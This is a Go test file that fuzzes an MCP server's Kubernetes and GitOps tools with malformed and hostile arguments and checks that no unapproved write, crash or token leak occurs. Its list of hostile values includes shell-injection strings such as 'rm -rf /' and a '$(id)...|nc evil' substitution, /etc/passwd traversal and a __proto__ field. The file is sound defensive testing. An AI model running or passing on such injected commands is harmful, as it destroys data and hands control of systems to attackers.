package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"
	apiextclient "k8s.io/apiextensions-apiserver/pkg/client/clientset/clientset"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/dynamic"

	"github.com/cluster-shepherd/shepherd/internal/guard"
	"github.com/cluster-shepherd/shepherd/internal/nodes/sshtest"
	"github.com/cluster-shepherd/shepherd/internal/testenv"
)

// hostileValue is one JSON value sent in place of a tool argument. It is kept
// raw so that it can carry what encoding/json never produces: a lone
// surrogate escape, invalid UTF-8, a number beyond int64.
type hostileValue struct {
	name string
	raw  json.RawMessage
}

func rawJSON(v any) json.RawMessage {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return b
}

func hostileValues() []hostileValue {
	return []hostileValue{
		{"number", rawJSON(42)},
		{"float", rawJSON(1.5)},
		{"negative", rawJSON(-1)},
		{"1e18", json.RawMessage("1e18")},
		{"-1e18", json.RawMessage("-1e18")},
		{"beyond-int64", json.RawMessage("92233720368547758070")},
		{"max-float", json.RawMessage("1.7976931348623157e308")},
		{"true", rawJSON(true)},
		{"null", json.RawMessage("null")},
		{"object", rawJSON(map[string]any{"a": 1, "$ne": nil})},
		{"empty-object", json.RawMessage("{}")},
		{"array", rawJSON([]any{"x", 1, nil})},
		{"empty-array", json.RawMessage("[]")},
		{"nested-arrays", json.RawMessage(strings.Repeat("[", 64) + strings.Repeat("]", 64))},
		{"empty-string", rawJSON("")},
		{"blank", rawJSON(" \t ")},
		{"100KiB", rawJSON(strings.Repeat("A", 100<<10))},
		{"100KiB-traversal", rawJSON(strings.Repeat("../", 100<<10/3))},
		{"100KiB-multibyte", rawJSON(strings.Repeat("é", 50<<10))},
		{"NUL", rawJSON("immich\x00x")},
		{"lone-surrogate", json.RawMessage(`"immich\ud800x"`)},
		{"invalid-utf8", json.RawMessage("\"immich\xff\xfe\xc0\x80\"")},
		{"ANSI", rawJSON("\x1b[2J\x1b[31mimmich\x1b[0m\x07")},
		{"bidi", rawJSON("immich\u202e\u2066lmth.exe\u2069")},
		{"newlines", rawJSON("immich\nnamespace: kube-system\r\n")},
		{"traversal", rawJSON("../../etc/passwd")},
		{"absolute", rawJSON("/etc/passwd")},
		{"shell", rawJSON("df -h; rm -rf / #")},
		{"substitution", rawJSON("$(id)`id`|nc evil 1 && reboot")},
		{"glob", rawJSON("*")},
		{"format-verbs", rawJSON("%s%n%x%!{{.}}")},
		{"numeric-string", rawJSON("-1")},
	}
}

// inputSchema is the part of a tool's JSON schema the test derives its
// arguments from.
type inputSchema struct {
	Properties map[string]struct {
		Type any `json:"type"`
	} `json:"properties"`
	Required []string `json:"required"`
}

func (s inputSchema) fields() []string {
	var fs []string
	for f := range s.Properties {
		fs = append(fs, f)
	}
	sort.Strings(fs)
	return fs
}

// schemaType is the first non-null type a property allows.
func schemaType(t any) string {
	switch t := t.(type) {
	case string:
		return t
	case []any:
		for _, x := range t {
			if s, _ := x.(string); s != "null" {
				return s
			}
		}
	}
	return ""
}

// plausibleArgs are well-formed values by argument name, so that a hostile
// value in one field travels as deep as it can while the others pass. They
// name nothing that was assessed or approved: every write must be refused.
// The arguments of assess_risk and queue_task stay empty, so that no
// assessment can ever match a call made here.
func plausibleArgs(tool string) map[string]any {
	args := map[string]any{
		"namespace": sc.LogPod.Namespace, "name": "immich", "pod": sc.LogPod.Name, "container": sc.LogPod.Container,
		"lines": 5, "previous": false, "kind": "Deployment", "replicas": 1, "domain": sc.CRDGroup,
		"file_path": "clusters/home/immich.yaml", "content": "replicas: 2\n", "commit_message": "scale immich",
		"node": "worker-1", "command": "df -h", "query": "immich restart", "top_k": 3, "collections": []string{"manifests"},
		"action": "restart immich because it is stuck", "reason": "it is stuck", "tool": "restart_workload",
		"arguments": map[string]any{}, "assessment_id": "01J00000000000000000000000", "id": "01J00000000000000000000000",
	}
	switch tool {
	case "run_flux_op":
		args["operation"] = "reconcile"
		args["namespace"], args["name"] = sc.FailingKustomization.Namespace, sc.FailingKustomization.Name
	case "gitops_change":
		args["operation"] = "update" // read is the one ungated operation
	}
	return args
}

func fallbackValue(typ string) any {
	switch typ {
	case "integer", "number":
		return 1
	case "boolean":
		return false
	case "array":
		return []any{}
	case "object":
		return map[string]any{}
	}
	return "x"
}

// baseline is a well-formed argument object for a tool, from its schema.
func baseline(tool string, sch inputSchema) map[string]json.RawMessage {
	plausible := plausibleArgs(tool)
	args := map[string]json.RawMessage{}
	for f, p := range sch.Properties {
		v, ok := plausible[f]
		if !ok {
			v = fallbackValue(schemaType(p.Type))
		}
		args[f] = rawJSON(v)
	}
	return args
}

func withField(base map[string]json.RawMessage, field string, v json.RawMessage) map[string]json.RawMessage {
	m := make(map[string]json.RawMessage, len(base)+1)
	for k, x := range base {
		m[k] = x
	}
	if v == nil {
		delete(m, field)
	} else {
		m[field] = v
	}
	return m
}

type hostileCase struct {
	label string
	args  any // sent as the "arguments" of tools/call
}

// hostileCases derives every hostile call of one tool from its schema.
func hostileCases(tool string, sch inputSchema) []hostileCase {
	base := baseline(tool, sch)
	cases := []hostileCase{
		{"baseline", base},
		{"no arguments", nil},
		{"empty object", json.RawMessage("{}")},
		{"arguments null", json.RawMessage("null")},
		{"arguments array", json.RawMessage(`[1,"x"]`)},
		{"arguments string", json.RawMessage(`"../../etc/passwd"`)},
		{"arguments number", json.RawMessage(`-1`)},
		{"unknown fields", withField(withField(base, "zz_unknown", rawJSON("x")), "__proto__", rawJSON(map[string]any{"admin": true}))},
	}
	allNull, allBig := map[string]json.RawMessage{}, map[string]json.RawMessage{}
	for _, f := range sch.fields() {
		allNull[f] = json.RawMessage("null")
		allBig[f] = rawJSON(strings.Repeat("B", 100<<10))
	}
	cases = append(cases, hostileCase{"every field null", allNull}, hostileCase{"every field 100KiB", allBig})
	for _, f := range sch.Required {
		cases = append(cases, hostileCase{"missing " + f, withField(base, f, nil)})
	}
	for _, f := range sch.fields() {
		// The same key twice: the later, hostile one must not slip past a
		// check made on the first.
		b, _ := json.Marshal(base)
		dup := append(b[:len(b)-1:len(b)-1], []byte(`,"`+f+`":"../../etc/passwd"}`)...)
		cases = append(cases, hostileCase{f + " given twice", json.RawMessage(dup)})
		for _, v := range hostileValues() {
			cases = append(cases, hostileCase{f + "=" + v.name, withField(base, f, v.raw)})
		}
	}
	return cases
}

// stackFrame matches a Go stack frame or a goroutine header.
var stackFrame = regexp.MustCompile(`\.go:\d+|\+0x[0-9a-f]+\b|goroutine \d+ \[`)

// writeState is what any write tool would change: workload generations and
// restart stamps, CRDs, Kustomization resource versions.
func writeState(t *testing.T) map[string]string {
	t.Helper()
	ctx := context.Background()
	state := map[string]string{}
	k := kube(t)
	deps, err := k.AppsV1().Deployments("").List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range deps.Items {
		state["deploy "+d.Namespace+"/"+d.Name] = fmt.Sprint(d.Generation, *d.Spec.Replicas, d.Spec.Template.Annotations)
	}
	stss, err := k.AppsV1().StatefulSets("").List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range stss.Items {
		state["sts "+s.Namespace+"/"+s.Name] = fmt.Sprint(s.Generation, *s.Spec.Replicas, s.Spec.Template.Annotations)
	}
	ext, err := apiextclient.NewForConfig(env.Config)
	if err != nil {
		t.Fatal(err)
	}
	crds, err := ext.ApiextensionsV1().CustomResourceDefinitions().List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range crds.Items {
		state["crd "+c.Name] = fmt.Sprint(c.DeletionTimestamp != nil)
	}
	dyn, err := dynamic.NewForConfig(env.Config)
	if err != nil {
		t.Fatal(err)
	}
	ks, err := dyn.Resource(testenv.KustomizationGVR).Namespace("").List(ctx, metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, k := range ks.Items {
		state["ks "+k.GetNamespace()+"/"+k.GetName()] = k.GetResourceVersion()
	}
	return state
}

// TestToolsSurviveHostileArguments calls every listed tool with junk derived
// from its input schema: wrong types, missing and unknown fields, huge and
// control-laden strings, traversal and shell syntax. Every call must come
// back as an answer or a short tool error without a stack trace, the server
// must keep serving, and no write may happen, since nothing was assessed or
// approved.
func TestToolsSurviveHostileArguments(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	// A real remote for gitops_change, so that paths reach the backend.
	const gitToken = "fleet-token-hostile-9"
	srv := fleetRemote(t, gitToken)
	// run_node_cmd is offered with a key and an empty known_hosts: no host
	// is trusted and no sshd is needed, since nothing may run anyway.
	sshDir := t.TempDir()
	sshtest.WriteKey(t, filepath.Join(sshDir, "id_ed25519"))
	os.WriteFile(filepath.Join(sshDir, "known_hosts"), nil, 0o600)

	p := startServe(t, "--gitops-backend", "git", "--gitops-url", srv.HTTPAddress()+"/org/fleet.git",
		"--gitops-username", "fleet", "--gitops-token-file", writeTemp(t, gitToken),
		"--ssh-key-file", filepath.Join(sshDir, "id_ed25519"), "--ssh-known-hosts", filepath.Join(sshDir, "known_hosts"),
		"--node-address", "worker-1=127.0.0.1:1")
	s := connect(t, &mcp.StreamableClientTransport{Endpoint: p.base + "/mcp", HTTPClient: httpClient(testToken)})
	before := writeState(t)

	list, err := s.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	// A write is any tool not marked read-only except the two that only
	// manage the task queue. Writes go first: assess_risk does rate some
	// of the calls below auto, though none a write call here could match.
	isWrite := func(tl *mcp.Tool) bool {
		return (tl.Annotations == nil || !tl.Annotations.ReadOnlyHint) && tl.Name != "queue_task" && tl.Name != "approve_task"
	}
	sort.SliceStable(list.Tools, func(i, j int) bool { return isWrite(list.Tools[i]) && !isWrite(list.Tools[j]) })
	names := map[string]bool{}
	for _, tl := range list.Tools {
		names[tl.Name] = true
	}
	for _, n := range []string{"get_pod_logs", "query_cortex", "assess_risk", "queue_task", "approve_task",
		"restart_workload", "scale_workload", "run_flux_op", "delete_crds", "gitops_change", "run_node_cmd"} {
		if !names[n] {
			t.Fatalf("tools/list lacks %s; the test would not cover it", n)
		}
	}

	const maxError = 2 << 10
	failures, calls, start := 0, 0, time.Now()
	fail := func(format string, args ...any) {
		t.Helper()
		failures++
		if failures <= 40 {
			t.Errorf(format, args...)
		}
	}
	invoke := func(tool string, args any) (*mcp.CallToolResult, string, error) {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		res, err := s.CallTool(ctx, &mcp.CallToolParams{Name: tool, Arguments: args})
		if err != nil {
			return nil, "", err
		}
		var b strings.Builder
		for _, c := range res.Content {
			if tc, ok := c.(*mcp.TextContent); ok {
				b.WriteString(tc.Text)
			}
		}
		return res, b.String(), nil
	}
	// alive checks that the server is still there and still answers.
	alive := func(after string) {
		t.Helper()
		if res, text, err := invoke("list_workloads", nil); err != nil || res.IsError {
			t.Fatalf("after %s: list_workloads: %v %.300s\nshepherd stderr:\n%s", after, err, text, tail(p.stderr.String(), 4000))
		}
	}
	for _, tl := range list.Tools {
		var sch inputSchema
		b, _ := json.Marshal(tl.InputSchema)
		if err := json.Unmarshal(b, &sch); err != nil {
			t.Fatalf("%s: input schema: %v", tl.Name, err)
		}
		write := isWrite(tl)
		for _, c := range hostileCases(tl.Name, sch) {
			calls++
			res, text, err := invoke(tl.Name, c.args)
			where := tl.Name + " [" + c.label + "]"
			switch {
			case err != nil:
				// No answer: a crash, or shepherd stuck writing a log line
				// nobody reads any more (see the stderr check below).
				t.Fatalf("%s: call failed: %.300v\nshepherd stderr:\n%s", where, err, tail(p.stderr.String(), 4000))
			case res.IsError:
				if strings.TrimSpace(text) == "" {
					fail("%s: empty error message", where)
				}
				if len(text) > maxError {
					fail("%s: error message is %d bytes: %.300q...", where, len(text), text)
				}
				for _, bad := range []string{"goroutine ", "panic", "runtime error"} {
					if strings.Contains(text, bad) {
						fail("%s: error message contains %q: %.500q", where, bad, text)
					}
				}
				if stackFrame.MatchString(text) {
					fail("%s: error message holds a stack frame: %.500q", where, text)
				}
			case write:
				fail("%s: write tool succeeded without assessment or approval: %.300q", where, text)
			case len(text) > 16<<10+1<<10:
				fail("%s: answer is %d bytes, over the response cap", where, len(text))
			}
			if strings.Contains(text, testToken) || strings.Contains(text, gitToken) {
				fail("%s: a token leaked into the answer", where)
			}
			alive(where)
		}
	}
	// Unknown tool names, hostile ones too, are refused; the server stays up.
	for _, name := range []string{"no_such_tool", "../../etc/passwd", "get_pod_logs\x00", "\x1b[31mlist_workloads", strings.Repeat("A", 100<<10)} {
		calls++
		if res, text, err := invoke(name, map[string]any{"namespace": "immich"}); err == nil && !res.IsError {
			fail("unknown tool %.40q answered: %.300q", name, text)
		}
		alive(fmt.Sprintf("unknown tool %.40q", name))
	}
	t.Logf("%d hostile calls across %d tools in %v, %d failures", calls, len(list.Tools), time.Since(start).Round(time.Millisecond), failures)

	// No write happened: the cluster is unchanged and the audit log holds
	// no authorized or executed write.
	after := writeState(t)
	for k, v := range before {
		if after[k] != v {
			fail("%s changed: %s -> %s", k, v, after[k])
		}
	}
	if len(after) != len(before) {
		fail("objects appeared or vanished: %d before, %d after", len(before), len(after))
	}
	audit, err := os.ReadFile(filepath.Join(p.dataDir, "audit.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewScanner(bytes.NewReader(audit))
	lines.Buffer(nil, 16<<20)
	records := 0
	for lines.Scan() {
		var rec guard.AuditRecord
		if err := json.Unmarshal(lines.Bytes(), &rec); err != nil {
			fail("audit record is not JSON: %v: %.200s", err, lines.Bytes())
			continue
		}
		records++
		if slices.Contains([]string{guard.DecisionAuthorized, guard.DecisionExecuted}, rec.Decision) {
			fail("audit log records a write: %s %s %v", rec.Tool, rec.Decision, rec.Arguments)
		}
	}
	if err := lines.Err(); err != nil {
		t.Fatalf("audit log: %v", err)
	}
	if records == 0 {
		t.Error("the audit log is empty")
	}
	// The panic check below means something only while shepherd's stderr
	// is still read, and the reader stops at a line over 64 KiB (hostile
	// input copied into a log line). A new session logs a line: wait for it.
	sessions := strings.Count(p.stderr.String(), "server session connected")
	connect(t, &mcp.StreamableClientTransport{Endpoint: p.base + "/mcp", HTTPClient: httpClient(testToken)})
	for deadline := time.Now().Add(5 * time.Second); strings.Count(p.stderr.String(), "server session connected") == sessions; {
		if time.Now().After(deadline) {
			t.Error("shepherd's stderr is no longer read: did it log a line over 64 KiB?")
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if strings.Contains(p.stderr.String(), "panic") {
		t.Errorf("shepherd logged a panic:\n%s", tail(p.stderr.String(), 4000))
	}
	if failures > 40 {
		t.Errorf("... and %d more failures", failures-40)
	}
}

// tail is the last n bytes of s.
func tail(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return "..." + s[len(s)-n:]
}
